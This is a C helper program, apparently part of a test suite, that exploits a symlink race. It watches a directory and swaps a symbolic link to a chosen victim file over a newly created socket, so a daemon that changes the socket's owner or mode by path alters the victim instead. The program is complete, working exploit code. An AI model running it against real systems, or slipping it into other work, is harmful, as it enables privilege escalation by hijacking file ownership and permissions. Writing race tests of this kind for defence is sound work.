/*
 * socket_racer.c - the attacker of socket_race_test.sh: watches a directory
 * with inotify and, the moment a file named NAME appears in it (created, or
 * moved in) and is a socket, renames a symbolic link to VICTIM over it.  A daemon that
 * changes its socket's owner or mode by path after bind() then changes the
 * victim instead.  Runs until killed.
 *
 *   socket_racer DIR NAME VICTIM
 */
#include <errno.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: socket_racer DIR NAME VICTIM\n");
    return 2;
  }
  const char *dir = argv[1], *name = argv[2], *victim = argv[3];
  char target[PATH_MAX], link[PATH_MAX];
  snprintf(target, sizeof target, "%s/%s", dir, name);
  snprintf(link, sizeof link, "%s/.racer-link", dir);
  int in = inotify_init1(IN_CLOEXEC);
  if (in < 0 || inotify_add_watch(in, dir, IN_CREATE | IN_MOVED_TO) < 0) {
    perror("inotify");
    return 1;
  }
  unlink(link);
  if (symlink(victim, link) != 0) {
    perror("symlink");
    return 1;
  }
  char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
  for (;;) {
    ssize_t n = read(in, buf, sizeof buf);
    if (n < 0 && errno == EINTR)
      continue;
    if (n <= 0)
      return 1;
    for (char *p = buf; p < buf + n;) {
      const struct inotify_event *ev = (const struct inotify_event *)p;
      p += sizeof *ev + ev->len;
      struct stat st;
      /* Only a socket: its own renames bring events for the name too. */
      if (ev->len == 0 || strcmp(ev->name, name) != 0 || lstat(target, &st) != 0 ||
          !S_ISSOCK(st.st_mode))
        continue;
      /* The link takes the socket's name; make the next one at once. */
      if (rename(link, target) == 0 && symlink(victim, link) != 0)
        return 1;
    }
  }
}
